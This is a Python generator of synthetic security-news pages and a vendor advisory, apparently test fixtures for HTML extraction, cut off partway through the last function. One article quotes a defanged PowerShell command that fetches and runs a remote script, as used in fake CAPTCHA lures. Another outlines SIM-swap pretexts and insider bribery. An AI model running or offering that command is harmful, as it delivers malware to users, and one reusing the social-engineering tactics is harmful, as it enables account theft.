# -*- coding: utf-8 -*-
"""English pages, part 1."""
from hp_parts import *  # noqa


def en_bleeping_like():
    name = 'en_bleeping_like'
    rng = random.Random(name)
    N = Namer('plain', name)
    host = 'www.bytealarm.example'
    url = 'https://%s/news/security/fake-captcha-pages-push-new-quarry-stealer-malware/' % host
    title = 'Fake CAPTCHA pages push new Quarry Stealer malware to Windows users'
    pub = tz(2026, 2, 11, 14, 22, -5)
    blocks = [
        ('p', 'A new information-stealing malware called Quarry Stealer is being distributed through fake CAPTCHA pages that trick visitors into pasting a malicious command into the Windows Run dialog.'),
        ('p', 'The campaign, first spotted by researchers at threat intelligence firm Orison Labs, uses compromised WordPress sites and malicious ads to redirect users to pages that look like a routine "verify you are human" check.'),
        ('p', 'Instead of asking the visitor to click on images, the page silently copies a PowerShell command to the clipboard and instructs the user to press **Windows + R**, then **Ctrl + V**, and finally **Enter** to "complete verification."'),
        ('raw', figure(rng, N, 'Fake CAPTCHA page instructing the user to run a command', 'Fake CAPTCHA verification page', 'Source: ByteAlarm')),
        ('h', 'Stealing browsers, wallets, and sessions'),
        ('p', 'When executed, the command downloads an obfuscated script from an attacker-controlled server, which in turn fetches the Quarry Stealer payload and loads it directly into memory.'),
        ('p', 'Orison Labs says the malware targets a long list of data stored on the infected device, including:'),
        ('ul', ['Saved passwords, cookies, and autofill data from Chromium and Firefox-based browsers',
                'Session tokens for messaging apps and gaming platforms',
                'Browser extensions for more than 40 cryptocurrency wallets',
                'Files from the Desktop and Documents folders that match keywords such as "seed", "wallet", and "backup"']),
        ('p', 'The stolen data is compressed into a ZIP archive and sent to the command-and-control server over HTTPS. The malware then deletes itself, leaving few traces on the device.'),
        ('raw', ad_slot(rng, N, 'en', 'ad-in-article-1', (728, 90))),
        ('p', '"What makes this campaign effective is that the user runs the command themselves, so many of the usual download protections never trigger," Orison Labs researcher Dana Whitfield told ByteAlarm.'),
        ('p', 'The researchers shared the following simplified version of the command that victims are told to paste:'),
        ('pre', 'powershell -w h -nop -c "iex (iwr -useb hxxps://verify-cdn[.]example/c.txt)"'),
        ('h', 'Malvertising and hacked sites'),
        ('p', 'According to the report, the operators rotate through hundreds of domains and use search ads for popular free software, such as PDF editors and video converters, to lure victims.'),
        ('p', 'Compromised WordPress sites are injected with a small JavaScript snippet that only loads the fake CAPTCHA for visitors coming from search engines, making the infection harder for site owners to notice.'),
        ('p', 'Users should be wary of any website that asks them to run commands on their computer, as no legitimate CAPTCHA will ever require this. Administrators can also use Group Policy to [disable the Run dialog](https://learn.example/windows/run-dialog-policy) for users who do not need it.'),
    ]
    body = render(blocks, 'en', pre_cls='code', wrap=0)
    heads = en_headlines(rng, 40, 0.0)
    comments = comments_section(rng, N, 'en', 14, 'Comments', k_range=(1, 3))
    page = '''
<body class="single-post">
%s
<div id="bc_drop_holder">
<header class="bc_header"><div class="bc_top_bar"><a href="/" class="bc_logo"><img src="/images/logo.png" alt="ByteAlarm" width="220" height="40"></a>
<div class="bc_header_right"><a href="/forums/">Forums</a><a href="/login/">Login</a><a href="/register/">Register</a></div></div>
%s
</header>
<div class="bc_main_content">
<div class="container"><div class="row">
<div class="col-md-8 article_section">
<div class="cz-news-title-wrap"><div class="cz-breadcrumbs"><a href="/">Home</a> &gt; <a href="/news/">News</a> &gt; <a href="/news/security/">Security</a> &gt; Fake CAPTCHA pages push new Quarry Stealer malware to Windows users</div></div>
<article class="articleBody">
<div class="cz-news-story-title-section"><h1>%s</h1>
<ul class="cz-news-story-title-section-meta"><li class="author"><a href="/author/megan-rourke/">By <span>Megan Rourke</span></a></li><li class="cz-news-date">February 11, 2026</li><li class="cz-news-time">02:22 PM</li><li class="cz-comments"><a href="#comments">14</a></li></ul></div>
%s
<div class="articleBody_content">
%s
</div>
<div class="cz-related-article-wrapp"><h2>Related Articles:</h2>%s</div>
%s
</article>
%s
<div class="cz-post-comment-wrapp">%s</div>
</div>
<div class="col-md-4 sidebar">
%s
<div class="cz-newsletter-widget">%s</div>
%s
<div class="cz-sponsor-posts"><h2>Sponsor Posts</h2>%s</div>
</div>
</div></div>
</div>
%s
</div>
</body>''' % (
        svg_sprite(rng), mega_menu(rng, N, 'en'), esc(title), share_buttons(rng, N, 'en', url), body,
        ''.join('<div class="cz-related-article"><a href="/news/security/%s/"><h3>%s</h3></a><p>%s</p></div>' % (s, esc(t), esc(tz_)) for t, tz_, s in heads[:5]),
        author_box(N, 'en', 'Megan Rourke', lorem_en_bio('Megan Rourke')),
        ad_slot(rng, N, 'en', 'ad-under-article', (728, 90)), comments,
        ad_slot(rng, N, 'en', 'ad-sidebar-1', (300, 250)), newsletter_box(N, 'en', 0),
        ranking(rng, N, 'en', heads[5:15], 'Popular Stories'), pr_teasers(rng, N, 'en', 4),
        site_footer(rng, N, 'en', 'ByteAlarm LLC', cols=5))
    desc = 'A new information-stealing malware called Quarry Stealer is being distributed through fake CAPTCHA pages.'
    head = '\n'.join([
        '<meta charset="UTF-8">', '<title>%s</title>' % esc(title), '<meta name="description" content="%s">' % attr(desc),
        '<link rel="canonical" href="%s">' % url, common_head_links(rng, host, 6),
        og_meta(title, desc, url, 'https://%s/images/news/2026/q-stealer.jpg' % host, 'ByteAlarm', pub=pub, lang='en', twitter='@bytealarm'),
        '<style>%s</style>' % page_css(rng, N, 700, ['articleBody', 'bc_header', 'cz-related-article', 'code']),
        gtm_snippet('GTM-BYTE01'), consent_script(), ad_loader(rng, ['ad-in-article-1', 'ad-under-article', 'ad-sidebar-1']),
        state_blob('__BA_STATE__', make_state(rng, 'en', en_headlines(rng, 40, 0.0), host)),
        news_ld(title, url, pub, author='Megan Rourke', publisher='ByteAlarm', logo='https://%s/images/logo.png' % host, desc=desc),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author='Megan Rourke', language='en', canonical_url=url, blocks=blocks, html=doc('en', head, page),
                layout='Security news site (BleepingComputer-like): figure and in-article ad inside the body, bulleted list, <pre> command, "Related Articles" with teasers, author box, 14 comments, popular stories, sponsor posts.')


def en_record_like():
    name = 'en_record_like'
    rng = random.Random(name)
    N = Namer('util', name)
    host = 'theledger.example'
    url = 'https://%s/cybercrime/ashgrove-county-election-office-ransomware' % host
    title = 'Ashgrove County election office hit by ransomware weeks before primary'
    pub = utc(2026, 3, 9, 18, 5)
    blocks = [
        ('p', 'The election office in Ashgrove County is working to restore its systems after a ransomware attack encrypted servers used to manage voter registration records, county officials said Monday.'),
        ('p', 'The attack was discovered on Friday evening when staff were unable to log into the county\'s voter registration workstation. Officials stressed that the state\'s central voter database and the voting machines themselves, which are not connected to the internet, were not affected.'),
        ('p', '"Every ballot cast in the upcoming primary will be counted accurately," County Clerk Renee Albright said in a statement. "Our voting equipment is air-gapped and is tested before and after every election."'),
        ('p', 'The primary election is scheduled for March 31. Early voting begins in two weeks.'),
        ('h', 'Back to paper'),
        ('p', 'In the meantime, election workers are processing new registrations and address changes on paper and will enter them into the system once it is restored. The county has brought in an outside incident response firm and notified the state\'s Secretary of State and the FBI.'),
        ('p', 'Albright did not say whether the attackers had demanded a ransom or whether any voter data had been stolen. Voter registration records in the state include names, addresses, dates of birth, and partial Social Security numbers.'),
        ('quote', '"Local election offices are small, underfunded, and running on whatever IT support the county can spare. That makes them an attractive target, even when the attackers have no interest in elections at all."'),
        ('p', 'That assessment came from Tomás Ferreira, a former state election security official who now advises counties on incident response. He said most ransomware attacks on local governments are opportunistic, exploiting unpatched remote access tools or stolen passwords rather than targeting election systems specifically.'),
        ('h', 'A growing pattern'),
        ('p', 'Ashgrove is at least the fourth county government in the state to report a ransomware incident in the past year. In October, a neighboring county was forced to close its tax office for two weeks after a similar attack.'),
        ('p', 'State lawmakers are considering a bill that would provide $12 million in grants for county cybersecurity upgrades, including funding for managed detection services and offline backups. The bill passed the state Senate last month and awaits a vote in the House.'),
        ('p', 'Albright said the county expects to have its registration system back online by the end of next week, well ahead of the primary.'),
    ]
    body = render(blocks, 'en', p_cls=N('article', 'p'), h_cls=N('article', 'h2'), quote_cls=N('article', 'quote'), wrap=88, ind='        ')
    heads = en_headlines(rng, 30, 0.0)
    page = '''
<body class="%s">
%s
<div class="%s"><header class="%s"><a href="/" class="%s">The Ledger</a>%s<a href="/subscribe" class="%s">Subscribe</a></header></div>
<main class="%s">
  <article class="%s">
    <div class="%s"><a href="/cybercrime" class="%s">Cybercrime</a><a href="/government" class="%s">Government</a><a href="/elections" class="%s">Elections</a></div>
    <h1 class="%s">%s</h1>
    <div class="%s"><img src="https://%s/authors/jpark.jpg" alt="" class="%s"><div><a href="/authors/jordan-park" class="%s">Jordan Park</a><time datetime="%s" class="%s">March 9th, 2026</time></div></div>
    %s
    <div class="%s">
%s
    </div>
    <div class="%s"><p class="%s">Get more insights with the Ledger Intelligence Cloud.</p><p>Learn how to proactively defend against threats with intelligence from across the open, deep and dark web.</p><a href="/demo" class="%s">Request a demo</a></div>
    <div class="%s">%s</div>
    %s
  </article>
  <aside class="%s">%s%s</aside>
</main>
%s
%s
</body>''' % (
        N('body'), svg_sprite(rng), N('hdr-wrap'), N('hdr'), N('hdr', 'logo'), mega_menu(rng, N, 'en'), N('hdr', 'cta'),
        N('main'), N('article'), N('article', 'cats'), N('tag'), N('tag'), N('tag'), N('article', 'title'), esc(title),
        N('article', 'byline'), host, N('article', 'avatar'), N('article', 'author'), iso(pub), N('article', 'date'),
        figure(rng, N, 'The Ashgrove County administration building. Image: County of Ashgrove', 'County administration building'),
        N('article', 'body'), body, N('promo'), N('promo', 'title'), N('promo', 'btn'), N('article', 'tags'),
        tag_list(N, 'en', ['Ransomware', 'Elections', 'Local Government', 'Incident Response']),
        author_box(N, 'en', 'Jordan Park', 'Jordan Park is a reporter covering cybercrime and state and local government technology. Jordan previously covered city hall for a daily newspaper in the Midwest.'),
        N('side'), related_list(rng, N, 'en', heads[:6], 'Recommended', teasers=True), ranking(rng, N, 'en', heads[6:14], 'Trending'),
        newsletter_box(N, 'en', 1), site_footer(rng, N, 'en', 'The Ledger News', cols=4))
    desc = 'The election office in Ashgrove County is working to restore its systems after a ransomware attack.'
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s | The Ledger</title>' % esc(title), '<meta name="description" content="%s">' % attr(desc),
        common_head_links(rng, host, 5), og_meta(title, desc, url, 'https://%s/og/ashgrove.jpg' % host, 'The Ledger', pub=pub, lang='en'),
        '<style>%s</style>' % css_blob(rng, UTIL, 900), gtm_snippet('GTM-LDGR01'),
        state_blob('__LEDGER__', make_state(rng, 'en', en_headlines(rng, 30, 0.0), host)),
        news_ld(title, url, pub, author='Jordan Park', publisher='The Ledger', logo='https://%s/logo.png' % host, desc=desc),
    ])
    return dict(name=name, url=url, content_type='text/html; charset=utf-8', encoding='UTF-8', title=title, published=pub,
                author='Jordan Park', language='en', canonical_url=None, blocks=blocks, html=doc('en', head, page),
                layout='Cyber-policy news site with Tailwind utility classes only: hard-wrapped source paragraphs, block quote, promo box and tags after the body, author bio, recommended/trending sidebar.')


def en_krebs_wordpress():
    name = 'en_krebs_wordpress'
    rng = random.Random(name)
    N = Namer('none', name)
    host = 'brennanonsecurity.example'
    url = 'https://%s/2026/02/inside-a-sim-swapping-crews-help-desk-playbook/' % host
    title = "Inside a SIM-Swapping Crew's Help Desk Playbook"
    pub = tz(2026, 2, 23, 9, 41, -5)
    blocks = [
        ('p', 'A group of young cybercriminals who specialize in hijacking mobile phone numbers has been quietly selling a step-by-step guide to tricking wireless carrier support staff, according to a copy of the document obtained by this author. The 38-page "playbook" offers a rare look at how these crews turn social engineering into a repeatable business.'),
        ('p', 'The guide was shared in a private chat channel that caters to so-called "SIM swappers," criminals who convince a mobile carrier to transfer a target\'s phone number to a SIM card they control. Once they have the number, they can intercept one-time codes sent by text message and take over email, banking and cryptocurrency accounts.'),
        ('p', 'A source who had access to the channel, and who asked not to be named because they were not authorized to share the material, said the playbook was sold for $450 in cryptocurrency and came with a promise of "free updates" whenever carriers changed their procedures.'),
        ('raw', '<div id="attachment_71342" style="width: 760px" class="wp-caption aligncenter"><img aria-describedby="caption-attachment-71342" decoding="async" class="size-full wp-image-71342" src="https://%s/wp-content/uploads/2026/02/playbook-toc.png" alt="" width="750" height="480"><p id="caption-attachment-71342" class="wp-caption-text">The table of contents from the SIM-swapping playbook.</p></div>' % host),
        ('p', '<strong>THE SCRIPT</strong>'.replace('<strong>', '**').replace('</strong>', '**')),
        ('p', 'Much of the document reads like a customer service training manual in reverse. It walks readers through how to identify which support queue to call, what time of day agents are most likely to be rushed, and which phrases tend to get an agent to skip verification steps.'),
        ('p', 'One section advises callers to claim they are traveling abroad with a broken phone and an urgent need to access a banking app. Another recommends pretending to be a small business owner who manages phones for several employees, a story that the guide says "explains why you don\'t know the PIN."'),
        ('p', 'The playbook also includes lists of internal tool names used by three large carriers, which the authors say help make a caller sound like a former employee or a retail store worker. Two current employees at one of those carriers confirmed that several of the tool names were accurate as of last year.'),
        ('p', '**INSIDERS FOR HIRE**'),
        ('p', 'When social engineering fails, the guide suggests a more direct approach: paying carrier employees to perform the swap. It lists "rates" ranging from $300 to $1,500 per swap, depending on the carrier, and describes how to recruit retail employees through job-seeking forums and social media.'),
        ('p', 'This is not a new tactic. Prosecutors in several countries have charged store employees with accepting bribes from SIM swappers over the past five years. But the playbook treats it as a standard part of the process, complete with advice on how to pay insiders without leaving a trail.'),
        ('p', '"The professionalization is what stands out," said Hannah Okafor, a fraud investigator who has worked on SIM-swapping cases for a major bank. "These are not kids improvising on the phone anymore. They have checklists, quality control, and customer support for their own customers."'),
        ('p', '**WHAT YOU CAN DO**'),
        ('p', 'Most carriers now let customers add a separate PIN or passphrase that must be provided before any change to the account, and some offer a "number lock" feature that blocks transfers entirely until it is turned off in the carrier\'s app. If your carrier offers these, turn them on.'),
        ('p', 'More importantly, stop relying on text messages for two-factor authentication wherever possible. An authenticator app or, better yet, a physical security key is not vulnerable to SIM swapping at all. For accounts that still only support SMS, consider using a separate phone number that is not publicly associated with you.'),
        ('p', 'The carriers named in the playbook did not respond to requests for comment by the time of publication. This story will be updated if they do.'),
    ]
    body = render(blocks, 'en', wrap=0)
    cm = []
    names = EN_NAMES + ['Brennan', 'JamesR', 'Hopeful Cynic', 'Not a Bot', 'Sally M', 'ex-telco']
    for i in range(72):
        nm = rng.choice(names)
        txt = comment_text(rng, 'en', rng.randint(2, 5))
        when = 'February %d, 2026 at %d:%02d %s' % (rng.randint(23, 28), rng.randint(1, 12), rng.randint(0, 59), rng.choice(['am', 'pm']))
        depth = 'depth-1' if rng.random() < 0.6 else 'depth-2'
        cm.append('<li class="comment %s %s" id="comment-%d"><div id="div-comment-%d" class="comment-body"><div class="comment-author vcard"><img alt="" src="https://gravatar.example/avatar/%s?s=48&amp;d=mm" class="avatar avatar-48 photo" height="48" width="48"><cite class="fn">%s</cite> <span class="says">says:</span></div>'
                  '<div class="comment-meta commentmetadata"><a href="#comment-%d">%s</a></div><p>%s</p><div class="reply"><a rel="nofollow" class="comment-reply-link" href="#respond">Reply</a></div></div></li>' % (
                      'odd alt' if i % 2 else 'even', depth, 600100 + i, 600100 + i, rand_id(rng, 32), esc(nm), 600100 + i, when, esc(txt)))
    recent = ['Phishing Kits Now Ship With Built-In Customer Support', 'The Lucrative Market for Stolen Loyalty Points', 'Who Is Behind the Orbweaver Botnet?',
              'Patch Tuesday, February 2026 Edition', 'Scammers Exploit Shipping Delays With Fake Customs Fees', 'A Closer Look at Card Skimmers at Self-Checkout',
              'How Data Brokers Fuel Targeted Extortion', 'Ransomware Gang Leaks Data From Regional Hospital', 'Fake Job Offers Used to Recruit Money Mules']
    page = '''<body class="post-template-default single single-post postid-71340 single-format-standard">
<div id="page" class="hfeed site">
<header id="masthead" class="site-header" role="banner">
<div class="site-branding"><p class="site-title"><a href="https://%s/" rel="home">Brennan on Security</a></p><p class="site-description">In-depth security news and investigation</p></div>
<nav id="site-navigation" class="main-navigation" role="navigation"><div class="menu-main-container"><ul id="menu-main" class="menu"><li class="menu-item"><a href="/">Home</a></li><li class="menu-item"><a href="/about-the-author/">About the Author</a></li><li class="menu-item"><a href="/advertising/">Advertising/Speaking</a></li></ul></div></nav>
</header>
<div id="content" class="site-content">
<div id="primary" class="content-area"><main id="main" class="site-main" role="main">
<article id="post-71340" class="post-71340 post type-post status-publish format-standard hentry category-ne-er-do-well-news category-sim-swapping tag-sim-swapping tag-social-engineering tag-two-factor-authentication">
<header class="entry-header">
<div class="adt"><span class="date"><i class="fa fa-calendar"></i>&nbsp;&nbsp;February 23, 2026</span><span class="comments"><i class="fa fa-comments"></i>&nbsp;&nbsp;<a href="#comments">72 Comments</a></span></div>
<h2 class="post-title">%s</h2>
</header>
<div class="entry-content">
%s
<div class="sharedaddy sd-sharing-enabled"><div class="robots-nocontent sd-block sd-social sd-social-icon-text sd-sharing"><h3 class="sd-title">Share this:</h3><div class="sd-content"><ul><li class="share-email"><a href="#" class="share-email sd-button">Email</a></li><li class="share-twitter"><a href="#" class="share-twitter sd-button">X</a></li><li class="share-facebook"><a href="#" class="share-facebook sd-button">Facebook</a></li><li class="share-linkedin"><a href="#" class="share-linkedin sd-button">LinkedIn</a></li><li class="share-reddit"><a href="#" class="share-reddit sd-button">Reddit</a></li></ul></div></div></div>
</div>
<footer class="entry-footer"><div class="entry-meta">This entry was posted in <a href="/category/ne-er-do-well-news/" rel="category tag">Ne'er-Do-Well News</a>, <a href="/category/sim-swapping/" rel="category tag">SIM Swapping</a> and tagged <a href="/tag/sim-swapping/" rel="tag">SIM swapping</a>, <a href="/tag/social-engineering/" rel="tag">social engineering</a>, <a href="/tag/two-factor-authentication/" rel="tag">two-factor authentication</a>. Bookmark the <a href="%s" rel="bookmark">permalink</a>.</div></footer>
</article>
<nav class="navigation post-navigation" role="navigation"><h2 class="screen-reader-text">Post navigation</h2><div class="nav-links"><div class="nav-previous"><a href="/2026/02/patch-tuesday-february-2026-edition/" rel="prev">&larr; Patch Tuesday, February 2026 Edition</a></div><div class="nav-next"><a href="/2026/02/phishing-kits-now-ship-with-built-in-customer-support/" rel="next">Phishing Kits Now Ship With Built-In Customer Support &rarr;</a></div></div></nav>
<div id="comments" class="comments-area">
<h2 class="comments-title">72 thoughts on &ldquo;%s&rdquo;</h2>
<ol class="comment-list">
%s
</ol>
<div id="respond" class="comment-respond"><h3 id="reply-title" class="comment-reply-title">Leave a Reply</h3><form action="/wp-comments-post.php" method="post" id="commentform" class="comment-form"><p class="comment-notes">Your email address will not be published. Required fields are marked *</p><p class="comment-form-comment"><textarea id="comment" name="comment" cols="45" rows="8"></textarea></p><p class="form-submit"><input name="submit" type="submit" id="submit" class="submit" value="Post Comment"></p></form></div>
</div>
</main></div>
<div id="secondary" class="widget-area" role="complementary">
<aside class="widget widget_text"><div class="textwidget">%s</div></aside>
<aside class="widget widget_search"><form role="search" method="get" class="search-form" action="/"><input type="search" class="search-field" placeholder="Search &hellip;" name="s"></form></aside>
<aside class="widget widget_mailing"><h2 class="widget-title">Mailing List</h2><p>Subscribe here to get new posts by email.</p><form><input type="email"><button>Subscribe</button></form></aside>
<aside class="widget widget_recent_entries"><h2 class="widget-title">Recent Posts</h2><ul>%s</ul></aside>
<aside class="widget widget_text"><h2 class="widget-title">Story Categories</h2><ul>%s</ul></aside>
<aside class="widget"><h2 class="widget-title">All About Skimmers</h2><p>Click image for my skimmer series.</p><a href="/all-about-skimmers/"><img src="/wp-content/uploads/skimmers.png" alt="" width="290" height="290"></a></aside>
<aside class="widget widget_text"><div class="textwidget">%s</div></aside>
</div>
</div>
<footer id="colophon" class="site-footer" role="contentinfo"><div class="site-info">&copy; Brennan on Security. All rights reserved. Powered by WordPress.</div></footer>
</div>
<script type="text/javascript" id="jetpack-stats-js-before">_stq = window._stq || [];_stq.push([ "view", JSON.parse("{\\"v\\":\\"ext\\",\\"blog\\":\\"39817\\",\\"post\\":\\"71340\\",\\"tz\\":\\"-5\\"}") ]);</script>
<script src="https://stats.wp.example/e-202608.js" defer></script>
</body>''' % (
        host, esc(title), body, url, esc(title), '\n'.join(cm), ad_slot(rng, N, 'en', 'ad-side-sponsor1', (300, 250)),
        ''.join('<li><a href="/2026/%s/">%s</a></li>' % (rand_id(rng, 6), esc(r)) for r in recent),
        ''.join('<li class="cat-item"><a href="/category/%s/">%s</a></li>' % (rand_id(rng, 5), esc(c)) for c in ['A Little Sunshine', 'Data Breaches', 'Latest Warnings', 'Ne\'er-Do-Well News', 'Ransomware', 'SIM Swapping', 'Security Tools', 'Time to Patch', 'Web Fraud 2.0']),
        ad_slot(rng, N, 'en', 'ad-side-sponsor2', (300, 600)))
    head = '\n'.join([
        '<meta charset="UTF-8">', '<meta name="viewport" content="width=device-width, initial-scale=1">',
        '<title>%s &#8211; Brennan on Security</title>' % esc(title), '<link rel="profile" href="https://gmpg.org/xfn/11">',
        '<meta name="robots" content="max-image-preview:large">',
        '<link rel="alternate" type="application/rss+xml" title="Brennan on Security &raquo; Feed" href="https://%s/feed/">' % host,
        '<link rel="alternate" type="application/rss+xml" title="Brennan on Security &raquo; %s Comments Feed" href="%sfeed/">' % (attr(title), url),
        "<link rel='stylesheet' id='wp-block-library-css' href='https://%s/wp-includes/css/dist/block-library/style.min.css?ver=6.7.1' media='all'>" % host,
        "<style id='wp-block-library-theme-inline-css'>%s</style>" % css_blob(rng, ['wp-block-quote', 'wp-caption', 'wp-caption-text', 'entry-content', 'entry-meta', 'comment', 'comment-body', 'comment-author', 'widget', 'widget-title', 'site-header', 'post-title', 'adt', 'reply', 'sd-button', 'nav-links'], 1000),
        "<script src='https://%s/wp-includes/js/jquery/jquery.min.js?ver=3.7.1' id='jquery-core-js'></script>" % host,
        '<link rel="canonical" href="%s">' % url, "<link rel='shortlink' href='https://%s/?p=71340'>" % host,
        og_meta(title, blocks[0][1][:150], url, 'https://%s/wp-content/uploads/2026/02/playbook-toc.png' % host, 'Brennan on Security', pub=pub, lang='en'),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author=None, language='en', canonical_url=url, blocks=blocks, html=doc('en-US', head, page),
                layout='Investigative WordPress blog: all-caps bold-only paragraphs as section heads, wp-caption image, Jetpack share box inside entry-content, 72-comment thread several times longer than the post, widget sidebar.')


def en_psirt_advisory():
    name = 'en_psirt_advisory'
    rng = random.Random(name)
    N = Namer('bem', name, 'psirt-')
    host = 'sec.kestrelnetworks.example'
    url = 'https://%s/advisories/KSA-2026-0012' % host
    title = 'Kestrel EdgeOS Web Management Interface Multiple Vulnerabilities'
    pub = utc(2026, 1, 21, 16, 0)
    blocks = [
        ('h', 'Summary'),
        ('p', 'Multiple vulnerabilities in the web-based management interface of Kestrel EdgeOS could allow an unauthenticated, remote attacker to execute arbitrary commands on an affected device or to cause a denial of service (DoS) condition.'),
        ('p', 'Kestrel Networks has released software updates that address these vulnerabilities. There are no workarounds that address the command injection vulnerability. A mitigation is available for the DoS vulnerability.'),
        ('h', 'Affected Products'),
        ('h', 'Vulnerable Products', 3),
        ('p', 'These vulnerabilities affect the following Kestrel products if they are running a vulnerable release of Kestrel EdgeOS and have the web management interface enabled:'),
        ('table', [['Product', 'Vulnerable Releases', 'CVE-2026-20418', 'CVE-2026-20419'],
                   ['Kestrel Branch Router 1100 Series', 'EdgeOS 7.2 and earlier', 'Vulnerable', 'Vulnerable'],
                   ['Kestrel Branch Router 2300 Series', 'EdgeOS 7.2 and earlier', 'Vulnerable', 'Vulnerable'],
                   ['Kestrel Secure Gateway 500', 'EdgeOS 7.0 through 7.2', 'Vulnerable', 'Not vulnerable'],
                   ['Kestrel Virtual Edge (vEdge)', 'EdgeOS 7.1 and 7.2', 'Vulnerable', 'Vulnerable']]),
        ('p', 'To determine whether the web management interface is enabled, administrators can use the `show ip http server status` command in the CLI.'),
        ('h', 'Products Confirmed Not Vulnerable', 3),
        ('p', 'Only products listed in the Vulnerable Products section of this advisory are known to be affected by these vulnerabilities. Kestrel has confirmed that these vulnerabilities do not affect the following products:'),
        ('ul', ['Kestrel Campus Switch 9000 Series', 'Kestrel Cloud Controller', 'Kestrel EdgeOS 8.0 and later']),
        ('h', 'Details'),
        ('h', 'CVE-2026-20418: Command Injection Vulnerability', 3),
        ('p', 'A vulnerability in the diagnostics page of the web management interface could allow an unauthenticated, remote attacker to execute arbitrary commands with root privileges on the underlying operating system. This vulnerability is due to insufficient validation of user-supplied input to the ping utility. An attacker could exploit this vulnerability by sending a crafted HTTP request to an affected device.'),
        ('h', 'CVE-2026-20419: Denial of Service Vulnerability', 3),
        ('p', 'A vulnerability in the session handling of the web management interface could allow an unauthenticated, remote attacker to cause the web server process to restart repeatedly, resulting in a DoS condition of the management interface. Traffic passing through the device is not affected.'),
        ('table', [['CVE ID', 'CVSS 3.1 Base Score', 'Severity', 'CWE'],
                   ['CVE-2026-20418', '9.8', 'Critical', 'CWE-78'],
                   ['CVE-2026-20419', '5.3', 'Medium', 'CWE-400']]),
        ('h', 'Workarounds'),
        ('p', 'There are no workarounds that address CVE-2026-20418. For CVE-2026-20419, administrators can restrict access to the web management interface to trusted management networks by using an access control list:'),
        ('pre', 'ip http access-class MGMT-ONLY\nip access-list standard MGMT-ONLY\npermit 10.10.0.0 0.0.255.255\ndeny any log'),
        ('h', 'Fixed Software'),
        ('p', 'Kestrel has released free software updates that address the vulnerabilities described in this advisory. Customers with service contracts can obtain updates through their regular update channels.'),
        ('table', [['Kestrel EdgeOS Release', 'First Fixed Release'], ['7.0', 'Migrate to a fixed release'], ['7.1', '7.1.6'], ['7.2', '7.2.3'], ['8.0 and later', 'Not vulnerable']]),
        ('h', 'Exploitation and Public Announcements'),
        ('p', 'The Kestrel Product Security Incident Response Team (PSIRT) is not aware of any public announcements or malicious use of the vulnerabilities that are described in this advisory.'),
        ('h', 'Source'),
        ('p', 'Kestrel would like to thank Ayumi Sato of Orison Labs for reporting these vulnerabilities.'),
        ('h', 'Revision History'),
        ('table', [['Version', 'Description', 'Date'], ['1.0', 'Initial public release.', '2026-01-21']]),
    ]
    body = render(blocks, 'en', h_tag='h2', h3_tag='h3', h_cls=N('section', 'title'), table_cls=N('table'), pre_cls=N('code'), h_ids=True)
    meta = '''<div class="%s"><dl>
<dt>Advisory ID:</dt><dd>KSA-2026-0012</dd>
<dt>First Published:</dt><dd>2026 January 21 16:00 GMT</dd>
<dt>Version 1.0:</dt><dd>Final</dd>
<dt>Workarounds:</dt><dd>No workarounds available</dd>
<dt>Kestrel Bug IDs:</dt><dd>KBUG-77812, KBUG-77815</dd>
<dt>CVE:</dt><dd>CVE-2026-20418, CVE-2026-20419</dd>
<dt>CVSS Score:</dt><dd>Base 9.8</dd>
</dl><div class="%s"><a href="/advisories/KSA-2026-0012/csaf.json">Download CSAF</a><a href="/advisories/KSA-2026-0012.txt">Download Text</a><a href="#">Email</a></div></div>''' % (N('meta'), N('meta', 'downloads'))
    others = ['Kestrel Cloud Controller Cross-Site Scripting Vulnerability', 'Kestrel EdgeOS SSH Denial of Service Vulnerability', 'Kestrel Secure Gateway SAML Authentication Bypass',
              'Kestrel Campus Switch Privilege Escalation Vulnerability', 'Kestrel vEdge Information Disclosure Vulnerability', 'Kestrel EdgeOS IPsec VPN Denial of Service',
              'Kestrel Management Center SQL Injection Vulnerability', 'Kestrel Branch Router Secure Boot Bypass', 'Kestrel Wireless Controller Path Traversal Vulnerability']
    page = '''
<body class="%s">
%s
<header class="%s"><a href="https://www.kestrelnetworks.example/" class="%s"><img src="/img/kestrel.svg" alt="Kestrel Networks" width="150" height="32"></a>
<nav class="%s"><a href="https://www.kestrelnetworks.example/products">Products</a><a href="https://www.kestrelnetworks.example/solutions">Solutions</a><a href="https://support.kestrelnetworks.example/">Support</a><a href="/">Security Advisories</a><a href="/policy">Security Vulnerability Policy</a><a href="https://www.kestrelnetworks.example/partners">Partners</a></nav></header>
%s
<div class="%s">
<main class="%s">
<h1 class="%s">%s</h1>
<div class="%s"><span class="%s">Critical</span><span>Advisory ID: KSA-2026-0012</span></div>
%s
<div class="%s" id="advisory-content">
%s
</div>
<div class="%s"><h2>Legal Disclaimer</h2><p>THIS DOCUMENT IS PROVIDED ON AN "AS IS" BASIS AND DOES NOT IMPLY ANY KIND OF GUARANTEE OR WARRANTY, INCLUDING THE WARRANTIES OF MERCHANTABILITY OR FITNESS FOR A PARTICULAR USE. YOUR USE OF THE INFORMATION ON THE DOCUMENT OR MATERIALS LINKED FROM THE DOCUMENT IS AT YOUR OWN RISK. KESTREL RESERVES THE RIGHT TO CHANGE OR UPDATE THIS DOCUMENT AT ANY TIME.</p><p>A standalone copy or paraphrase of the text of this document that omits the distribution URL is an uncontrolled copy and may lack important information or contain factual errors.</p></div>
<div class="%s"><h2>Kestrel Security Vulnerability Policy</h2><p>To learn about Kestrel security vulnerability disclosure policies and publications, see the Security Vulnerability Policy. This document also contains instructions for obtaining fixed software and receiving security vulnerability information from Kestrel.</p><h2>Subscribe to Kestrel Security Notifications</h2><a href="/subscribe">Subscribe</a></div>
</main>
<aside class="%s"><h2>Related Advisories</h2><ul>%s</ul><h2>Feedback</h2><p>Was this advisory helpful?</p><button>Yes</button><button>No</button></aside>
</div>
%s
</body>''' % (
        N('page'), svg_sprite(rng), N('header'), N('header', 'logo'), N('header', 'nav'),
        breadcrumbs(N, [('Kestrel Security', '/'), ('Security Advisories', '/advisories'), ('KSA-2026-0012', None)]),
        N('layout'), N('main'), N('title'), esc(title), N('badges'), N('badge'), meta, N('content'), body,
        N('disclaimer'), N('policy'), N('related'),
        ''.join('<li><a href="/advisories/KSA-2025-%04d">%s</a><span>%s</span></li>' % (rng.randint(1, 99), esc(o), rng.choice(['High', 'Medium', 'Low'])) for o in others),
        site_footer(rng, N, 'en', 'Kestrel Networks, Inc.', cols=3))
